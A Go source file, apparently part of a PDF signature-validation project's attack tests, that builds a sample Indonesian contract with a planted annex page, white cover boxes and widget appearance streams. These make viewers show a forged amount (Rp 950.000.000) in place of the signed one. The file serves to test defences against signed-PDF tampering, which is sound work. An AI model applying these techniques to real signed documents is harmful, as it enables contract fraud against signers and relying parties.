package attacks

import (
	"bytes"
	"fmt"

	"segel/internal/sample"
	"segel/pdf"
)

// The amounts: what the victim signs and what the attacker makes viewers
// show.
const (
	OldAmount = "Rp 250.000.000"
	NewAmount = "Rp 950.000.000"
	// ShortAmount is what poppler shows when it builds a field appearance
	// with a font that has no glyph for "2" (it drops the character).
	ShortAmount = "Rp 50.000.000"
)

// The annex page the attacker plants before signing: the amount is drawn at
// (72, 700) in 11 pt Helvetica (/F1).
const (
	amountX, amountY = 72, 700
	titleOps         = "BT /F2 12 Tf 72 760 Td (LAMPIRAN PERJANJIAN KERJA SAMA) Tj ET\n" +
		"BT /F1 10 Tf 72 740 Td (Rincian pembiayaan kegiatan) Tj ET\n"
	// coverRect is a white box over the amount line.
	coverRect = "q 1 1 1 rg 68 692 300 22 re f Q\n"
	// amountRect is the rectangle of a widget lying over the amount line.
	amountRect = "[68 692 368 714]"
)

// amountOps draws the amount line with font /F1.
func amountOps(amount string) string {
	return fmt.Sprintf("BT /F1 11 Tf %d %d Td (Nilai kontrak: %s) Tj ET\n", amountX, amountY, amount)
}

// coverOps hides the amount line under a white box and draws another
// amount in its place.
func coverOps(amount string) string { return coverRect + amountOps(amount) }

// boxAppearance is a Form XObject body (300 x 22, origin at the lower left
// of amountRect) painting a white box and the amount line; font is the
// Helvetica object.
func boxAppearance(font uint32, amount string) string {
	return stream(fmt.Sprintf(" /Type /XObject /Subtype /Form /BBox [0 0 300 22] /Resources << /Font << /F1 %s >> >>", ref(font)),
		fmt.Sprintf("1 1 1 rg 0 0 300 22 re f 0 g BT /F1 11 Tf 4 8 Td (Nilai kontrak: %s) Tj ET", amount))
}

// pks is the sample agreement (internal/fixture) being prepared by the
// attacker, with the object numbers the cases need.
type pks struct {
	b                []byte
	catalog, pages   uint32
	acro             uint32 // the AcroForm dictionary (indirect in the fixture)
	page3            uint32 // the signature page
	helv, helvB      uint32 // Helvetica and Helvetica-Bold
	sigProv, sigKab  uint32 // the two empty signature fields
	kids             pdf.Array
	fields           pdf.Array
	page4, page4Cont uint32 // the planted annex page and its first content stream, once added
}

// newPKS generates the sample agreement and finds its objects.
func newPKS() *pks {
	var buf bytes.Buffer
	if err := sample.PKS(&buf, sample.PKSOptions{}); err != nil {
		panic(err)
	}
	p := &pks{b: buf.Bytes()}
	doc := open(p.b)
	p.catalog = doc.Trailer()["Root"].(pdf.Ref).Num
	cat, _ := doc.Catalog()
	p.pages = cat["Pages"].(pdf.Ref).Num
	af, ok := cat["AcroForm"].(pdf.Ref)
	if !ok {
		panic("attacks: the fixture's AcroForm is not indirect")
	}
	p.acro = af.Num
	pages, err := doc.Pages()
	if err != nil || len(pages) != 3 {
		panic(fmt.Sprintf("attacks: fixture pages: %v", err))
	}
	p.page3 = pages[2].Ref.Num
	res, _ := doc.GetDict(pages[2].Dict["Resources"])
	fonts, _ := doc.GetDict(res["Font"])
	p.helv = fonts["F1"].(pdf.Ref).Num
	p.helvB = fonts["F2"].(pdf.Ref).Num
	fields, _ := doc.Fields()
	for _, f := range fields {
		switch f.Name {
		case "SigProvinsi":
			p.sigProv = f.Ref.Num
		case "SigKabupaten":
			p.sigKab = f.Ref.Num
		}
	}
	root, _ := doc.GetDict(cat["Pages"])
	p.kids, _ = doc.GetArray(root["Kids"])
	p.fields, _ = doc.GetArray(dictOf(p.b, p.acro)["Fields"])
	return p
}

// fontRes is the page resource dictionary with /F1 and /F2.
func (p *pks) fontRes() string {
	return fmt.Sprintf("<< /Font << /F1 %s /F2 %s >> >>", ref(p.helv), ref(p.helvB))
}

// addPage writes the annex page (page 4) in u with the given page
// dictionary entries besides /Type, /Parent and /MediaBox, and adds it to
// the page tree root. parent overrides the /Parent (0: the root).
func (p *pks) addPage(u *upd, entries string, parent uint32) uint32 {
	p.pageNum(u)
	if parent == 0 {
		parent = p.pages
	}
	u.put(p.page4, fmt.Sprintf("<< /Type /Page /Parent %s /MediaBox [0 0 595 842] %s >>", ref(parent), entries))
	kids := append(append(pdf.Array{}, p.kids...), r(p.page4))
	u.put(p.pages, format(with(dictOf(u.b[:u.base], p.pages), "Kids", kids, "Count", pdf.Int(len(kids)))))
	return p.page4
}

// pageNum returns the object number of the annex page, allocating it on
// the first call (so that widgets can point to it before it is written).
func (p *pks) pageNum(u *upd) uint32 {
	if p.page4 == 0 {
		p.page4 = u.alloc()
	}
	return p.page4
}

// plainPage adds the annex page with its own resources and one content
// stream drawing the title and the old amount, plus the given annotations.
func (p *pks) plainPage(u *upd, annots ...uint32) {
	p.page4Cont = u.add(stream("", titleOps+amountOps(OldAmount)))
	p.addPage(u, fmt.Sprintf("/Resources %s /Contents %s%s", p.fontRes(), ref(p.page4Cont), annotsEntry(annots)), 0)
}

// annotsEntry formats "/Annots [...]" (empty without annotations).
func annotsEntry(annots []uint32) string {
	if len(annots) == 0 {
		return ""
	}
	s := " /Annots ["
	for i, a := range annots {
		if i > 0 {
			s += " "
		}
		s += ref(a)
	}
	return s + "]"
}

// setFields rewrites the AcroForm dictionary in u with the fixture's fields
// followed by extra, and the given additional entries (PDF syntax).
func (p *pks) setFields(u *upd, extra []uint32, entries string) {
	af := dictOf(u.b[:u.base], p.acro)
	fields := append(pdf.Array{}, p.fields...)
	for _, f := range extra {
		fields = append(fields, r(f))
	}
	af = with(af, "Fields", fields)
	u.put(p.acro, "<<"+inner(af)+" "+entries+">>")
}

// commit finishes the update u as the new state of the prepared file.
func (p *pks) commit(u *upd) { p.b = u.finish("") }

// noteRect is where the planted note field ("Catatan") lies on the annex
// page: away from the amount line.
const noteRect = "[400 60 560 80]"

// textAP is a 160 x 20 appearance stream showing text in 9 pt Helvetica.
func textAP(font uint32, text string) string {
	return stream(fmt.Sprintf(" /Type /XObject /Subtype /Form /BBox [0 0 160 20] /Resources << /Font << /F1 %s >> >>", ref(font)),
		fmt.Sprintf("/Tx BMC q BT /F1 9 Tf 0 g 2 6 Td (%s) Tj ET Q EMC", text))
}

// textField is a text field merged with its widget on the annex page, at
// noteRect, with value v and appearance ap; extra is added to the
// dictionary.
func (p *pks) textField(u *upd, name, v string, ap uint32, extra string) string {
	return fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (%s) /V (%s) /DA (/Helv 9 Tf 0 g) /Rect %s /F 4 /P %s /AP << /N %s >>%s >>",
		name, v, noteRect, ref(p.pageNum(u)), ref(ap), extra)
}

// drForm is the AcroForm /DR entry with /Helv (the fixture's Helvetica).
func (p *pks) drForm() string {
	return fmt.Sprintf("/DR << /Font << /Helv %s >> >> /DA (/Helv 9 Tf 0 g)", ref(p.helv))
}

// fill is the text a victim-side fill puts in the note field: harmless,
// never the amount.
const fill = "Disetujui"
